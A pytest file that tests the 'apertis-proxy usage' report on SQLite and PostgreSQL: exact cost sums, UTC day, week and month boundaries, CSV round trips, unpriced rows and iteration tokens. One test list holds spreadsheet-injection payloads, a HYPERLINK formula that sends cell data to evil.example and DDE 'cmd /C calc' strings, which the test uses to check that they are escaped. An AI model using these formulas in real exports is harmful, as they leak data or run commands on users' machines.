"""`apertis-proxy usage` reports against the raw ledger rows, on SQLite and PostgreSQL (its rollup and its raw rows):
exact cost sums, UTC day boundaries, CSV a spreadsheet cannot run, unpriced groups never shown at $0, weeks and
months."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import datetime, timezone

import pytest

from apertis_proxy import cli
from apertis_proxy.plugin_api import UsageRecord
from apertis_proxy.store import service
from tests.ops.test_admissions_ended import set_period
from tests.ops.test_admissions_store import new_key

DAY = int(datetime(2026, 11, 30, tzinfo=timezone.utc).timestamp())    # midnight UTC, 2026-11-30


def _row(rid: str, ts: float, **kw) -> dict:
    base = dict(request_id=rid, started_at=ts, endpoint="/v1/messages", status=200, key_name="alice",
                requested_model="claude-x", channel_name="main", input_tokens=10, output_tokens=5, cost=0.1)
    base.update(kw)
    return dataclasses.asdict(UsageRecord(**base))


async def _write(db: str, rows: list[dict]) -> None:
    store = await service.open_store(db)
    try:
        assert await store.write_ledger(rows) == len(rows)
    finally:
        await store.close()


def _usage(capsys, db: str, *argv: str) -> str:
    capsys.readouterr()
    code = cli.main(["usage", *argv, "--db", db])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, tmp_path):
    if request.param == "sqlite":
        return str(tmp_path / "apertis.db")
    return request.getfixturevalue("pg_url")


# --- cost: exact to the ledger's precision (1e-10 USD), the same on both backends and both PG paths -------------

async def test_cost_total_is_the_exact_sum_of_the_rows_costs(db, capsys):
    # Ten rows of $0.10 each (stored exactly as the ledger keeps it, rounded to 1e-10): $1.00.
    await _write(db, [_row(f"r{i}", DAY + 3600 + i) for i in range(10)])
    totals = {
        "all (rollup on PG)": json.loads(_usage(capsys, db, "--json"))["cost"],
        "partial day (raw rows)": json.loads(_usage(capsys, db, "--json", "--since", "2026-11-30T00:00:01Z"))["cost"],
        "--by key": json.loads(_usage(capsys, db, "--json", "--by", "key"))["by"][0]["cost"],
    }
    wrong = {k: v for k, v in totals.items() if v != 1.0}
    assert not wrong, f"usage --json cost of 10 rows of $0.1 is not 1.0 (ledger precision 1e-10): {wrong!r}"


# --- day boundaries: a row is in the day whose [since, until) holds its ts ---------------------------------------

async def test_a_row_just_before_midnight_is_reported_in_its_own_day(db, capsys):
    # time.time() has sub-millisecond digits: a request started 0.4 ms (SQLite rounds dates to ms) /
    # 0.4 µs (PostgreSQL's to_timestamp rounds to µs) before midnight is on 2026-11-29.
    eps = 0.0004 if not db.startswith("postgres") else 0.0000004
    ts = DAY - eps
    assert ts < DAY     # inside [2026-11-29, 2026-11-30): `--until 2026-11-29` counts it, as it should
    await _write(db, [_row("late", ts)])
    by_day = json.loads(_usage(capsys, db, "--json", "--by", "day"))["by"]
    day29 = json.loads(_usage(capsys, db, "--json", "--since", "2026-11-29", "--until", "2026-11-29"))
    day30 = json.loads(_usage(capsys, db, "--json", "--since", "2026-11-30", "--until", "2026-11-30"))
    got = {"--by day": [(g["day"], g["requests"]) for g in by_day],
           "day 29": day29["requests"], "day 30": day30["requests"]}
    assert got == {"--by day": [("2026-11-29", 1)], "day 29": 1, "day 30": 0}, \
        f"a row at ts={ts!r} (2026-11-29T23:59:59.9999...Z) reported in the wrong UTC day: {got!r}"


# --- --csv: RFC 4180 round trip, and no spreadsheet formula in a cell the client chose ----------------------------

_AWKWARD = ['model,with,commas', 'model "quoted"', 'model\nwith\r\nnewlines', 'plain']
_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
             '@SUM(1+1)*cmd|\' /C calc\'!A0']


async def csv_of_models(tmp_path, capsys, models: list[str]) -> tuple[str, list[str], list[list[str]]]:
    """`usage --csv` over one row per model name: the output, its header and its rows."""
    db = str(tmp_path / "apertis.db")
    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(models)])
    out = _usage(capsys, db, "--csv")
    parsed = list(csv.reader(io.StringIO(out, newline="")))
    return out, parsed[0], parsed[1:]


async def test_csv_round_trips_awkward_model_names(tmp_path, capsys):
    out, header, rows = await csv_of_models(tmp_path, capsys, _AWKWARD)
    assert out.endswith("\r\n") and "requested_model" in header
    assert [r[header.index("requested_model")] for r in rows] == _AWKWARD
    assert [r[header.index("request_id")] for r in rows] == [f"r{i}" for i in range(len(_AWKWARD))]


async def test_csv_does_not_hand_a_spreadsheet_a_formula_from_a_client_chosen_model(tmp_path, capsys):
    # requested_model is whatever the client sent (allow_unpriced, or a 4xx row of an unknown model):
    # opened in Excel/LibreOffice/Sheets, a cell starting with = + - @ runs as a formula (CSV injection).
    _, header, rows = await csv_of_models(tmp_path, capsys, _FORMULAS)
    cells = [r[header.index("requested_model")] for r in rows]
    assert cells == ["'" + m for m in _FORMULAS]


# --- unpriced rows: reported as unpriced, never as $0 -------------------------------------------------------------

async def test_a_group_of_only_unpriced_rows_is_not_shown_costing_0(db, capsys):
    await _write(db, [_row("priced", DAY + 10, requested_model="claude-x", cost=0.5),
                      _row("free?", DAY + 20, requested_model="house-model", cost=None, input_tokens=50000)])
    by = json.loads(_usage(capsys, db, "--json", "--by", "model"))["by"]
    assert {g["model"]: g["unpriced_requests"] for g in by} == {"claude-x": 0, "house-model": 1}
    text = _usage(capsys, db, "--by", "model")
    line = next(row for row in text.splitlines() if row.startswith("house-model"))
    assert "$0.00" not in line, ("usage --by model prints the unpriced model's cost as $0.00 (docs/billing.md:"
                                 f" never recorded at $0; usage reports 'unpriced, N requests'):\n{text}")


# --- weeks (from Monday) and months, UTC, the same on both backends and both PostgreSQL paths ----------------------

async def test_weeks_and_months_are_utc_from_monday_on_every_path(db, capsys):
    # 2026-11-29 is a Sunday, 2026-11-30 a Monday.
    await _write(db, [_row("sun", DAY - 12 * 3600), _row("mon", DAY + 12 * 3600), _row("dec", DAY + 86400 + 60)])
    for extra in ((), ("--since", "2026-11-01T00:00:01Z")):      # rollup (PG) and raw rows
        weeks = json.loads(_usage(capsys, db, "--json", "--by", "week", *extra))["by"]
        months = json.loads(_usage(capsys, db, "--json", "--by", "month", *extra))["by"]
        assert [(g["week"], g["requests"]) for g in weeks] == [("2026-11-23", 1), ("2026-11-30", 2)], extra
        assert [(g["month"], g["requests"]) for g in months] == [("2026-11-01", 2), ("2026-12-01", 1)], extra


# --- iterations billed apart: their tokens reported, the same on every path ---------------------------------------

_ITERATIONS = [
    {"type": "message", "input_tokens": 900, "output_tokens": 90},              # the top-level counts' own
    {"type": "advisor_message", "model": "claude-opus-4-8", "input_tokens": 1000, "output_tokens": 200,
     "cache_read_input_tokens": 300},
    {"type": "compaction", "input_tokens": 500, "output_tokens": 50, "cache_creation_input_tokens": 7},
]


async def test_tokens_of_iterations_billed_apart_are_reported_on_every_path(db, capsys):
    # What a token quota counts of these rows (UsageRecord.billed_tokens): 15 + 15 + 2,057.  The report's token
    # columns are the top-level counts; the separately billed iterations (1,500 + 557) have a column of their own.
    await _write(db, [_row("plain", DAY + 10), _row("advised", DAY + 20, iterations=_ITERATIONS),
                      _row("other", DAY + 30, requested_model="claude-y", iterations=[{"type": "message"}])])
    for extra in ((), ("--since", "2026-11-30T00:00:01Z")):      # rollup (PG) and raw rows
        whole = json.loads(_usage(capsys, db, "--json", *extra))
        by = json.loads(_usage(capsys, db, "--json", "--by", "model", *extra))["by"]
        assert whole["iteration_tokens"] == 2057, extra
        assert whole["input_tokens"] + whole["output_tokens"] == 45, extra
        assert {g["model"]: g["iteration_tokens"] for g in by} == {"claude-x": 2057, "claude-y": 0}, extra
    text = _usage(capsys, db, "--by", "model")
    header, *rows = text.splitlines()
    assert "ITERATIONS" in header
    assert "2,057" in next(r for r in rows if r.startswith("claude-x"))
    assert "ITERATIONS" not in _usage(capsys, db, "--model", "claude-y").splitlines()[0]


def _as_pg_revision_4(url: str) -> None:
    """A PostgreSQL store as revision 4 left it: a rollup without iteration_tokens."""
    conn = service.connect(url)
    try:
        conn.execute("ALTER TABLE usage_daily DROP COLUMN iteration_tokens")
        conn.execute("UPDATE meta SET v = '4' WHERE k = 'pg_revision'")
        conn.commit()
    finally:
        conn.close()


async def test_a_migrated_postgresql_rollup_reports_the_iterations_of_rows_it_already_held(pg_url, capsys):
    await _write(pg_url, [_row("advised", DAY + 20, iterations=_ITERATIONS), _row("plain", DAY + 30)])
    _as_pg_revision_4(pg_url)
    await _write(pg_url, [_row("later", DAY + 40, iterations=_ITERATIONS[1:2])])    # the upgrade, then a row
    assert json.loads(_usage(capsys, pg_url, "--json"))["iteration_tokens"] == 2057 + 1500


# --- quota periods: a row's period is its whole second's, as in the reports ---------------------------------------

async def test_a_request_started_just_before_midnight_counts_in_that_days_quota_period(db):
    key_id = new_key(db, "alice", quota_cost=10.0)
    set_period(db, key_id, "day")
    eps = 0.0004 if not db.startswith("postgres") else 0.0000004
    await _write(db, [_row("late", DAY - eps, key_id=key_id, cost=0.25)])
    conn = service.connect(db)
    try:
        periods = sorted(tuple(r) for r in conn.execute("SELECT period, start, cost FROM key_period_spend"))
    finally:
        conn.close()
    assert periods == [("day", "2026-11-29", 0.25)], \
        f"a request started at {DAY - eps!r} (2026-11-29T23:59:59.9999...Z) settled in the wrong day: {periods!r}"
